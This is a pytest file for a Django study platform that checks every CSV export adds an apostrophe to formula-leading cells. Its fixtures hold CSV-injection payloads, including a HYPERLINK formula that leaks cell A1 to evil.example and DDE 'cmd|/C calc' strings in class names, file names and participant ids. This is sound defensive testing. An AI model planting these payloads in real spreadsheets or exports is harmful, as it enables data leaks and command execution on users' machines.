"""A CSV the platform writes never makes the researcher's spreadsheet run a formula.

A manifest's class names and file names, and a participant's Prolific id, reach the answers
CSV (API `?as=csv`, the admin download and the admin action) and the report's CSV tables. A
text cell starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe
(OWASP's rule); numbers, negative ones included, stay numbers; JSON keeps the values as sent.
"""

import csv
import io
import zipfile

import pytest
from django.test import Client
from rest_framework.test import APIClient

from studies import generation, services
from studies.models import Participant, Study
from tests.factories import png_bytes, tone_bytes
from tests.studies.bots import Bot
from tests.studies.conftest import as_upload

pytestmark = pytest.mark.django_db

HOSTILE_CLASSES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
HOSTILE_PIDS = ('=HYPERLINK("http://evil.example")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_set() -> bytes:
    """A valid set whose classes, file names and descriptions are spreadsheet formulas."""
    files, rows = {}, []
    for number, label in enumerate(HOSTILE_CLASSES):
        for index in range(2):
            image, audio = f"images/{number}-{index}.png", f"=cmd|calc-{number}-{index}.wav"
            files[image] = png_bytes((40 * number, 200, 30 * index))
            files[audio] = tone_bytes(220.0 * (number + 1) * (1 + 0.1 * index))
            rows.append([image, audio, label, "test", "@SUM(1+1) =1+1"])
    manifest = io.StringIO()
    csv.writer(manifest).writerows([["image", "audio", "class", "role", "description"], *rows])
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("manifest.csv", manifest.getvalue())
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def formula_cells(csv_text: str) -> list[str]:
    """Cells a spreadsheet would run: text starting with a formula character, not a number."""
    found = []
    for row in csv.reader(io.StringIO(csv_text)):
        for cell in row:
            if cell.startswith(FORMULA_STARTS) and not is_number(cell):
                found.append(cell)
    return found


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def answered_hostile_study(researcher) -> Study:
    study = services.study_create(
        name='=HYPERLINK("http://evil.example")',
        kind="uploaded_set",
        design_params={"n_options": 4, "n_preview_per_class": 0},
        upload=as_upload(hostile_set()),
        raters_per_trial=5,
    )
    generation.generation_job_run(job_id=generation.study_generate(study=study).pk)
    services.study_publish(study=Study.objects.get(pk=study.pk))
    for number, pid in enumerate(HOSTILE_PIDS):
        bot = Bot(client=Client(), study_slug=study.slug, query=f"?PROLIFIC_PID=P{number}")
        bot.take_whole_study(choose=lambda index, html, number=number: number)
        # Stored as a participant's link can still carry it, whatever the entry page accepts.
        Participant.objects.filter(token=bot.token).update(prolific_pid=pid)
    return study


def test_every_csv_download_neutralises_formulas_and_keeps_the_values(
    researcher, answered_hostile_study
):
    study = answered_hostile_study
    api, site = APIClient(), Client()
    api.force_authenticate(researcher)
    site.force_login(researcher)
    downloads = {
        "API ?as=csv": api.get(f"/api/studies/{study.pk}/responses/", {"as": "csv"}),
        "admin download": site.get(f"/researcher/studies/{study.pk}/responses.csv"),
        "admin action": site.post(
            "/admin/studies/study/", {"action": "export_csv", "_selected_action": [study.pk]}
        ),
    }
    for source, response in downloads.items():
        assert response.status_code == 200, source
        text = response.content.decode()
        assert formula_cells(text) == [], source
        rows = list(csv.DictReader(io.StringIO(text)))
        assert len(rows) == 24, source
        assert {row["prolific_pid"] for row in rows} == {"'" + pid for pid in HOSTILE_PIDS}
        assert {row["class"] for row in rows} == {"'" + label for label in HOSTILE_CLASSES}
        assert all(row["item"].startswith("'=cmd|calc-") for row in rows)

    report = site.get(f"/researcher/studies/{study.pk}/report.csv")
    with zipfile.ZipFile(io.BytesIO(report.content)) as tables:
        for name in tables.namelist():
            assert formula_cells(tables.read(name).decode()) == [], name
        classes = csv.DictReader(io.StringIO(tables.read("classes.csv").decode()))
        assert {row["class"] for row in classes} == {"'" + label for label in HOSTILE_CLASSES}

    rows = api.get(f"/api/studies/{study.pk}/responses/").json()
    assert {row["prolific_pid"] for row in rows} == set(HOSTILE_PIDS), "JSON carries the values"
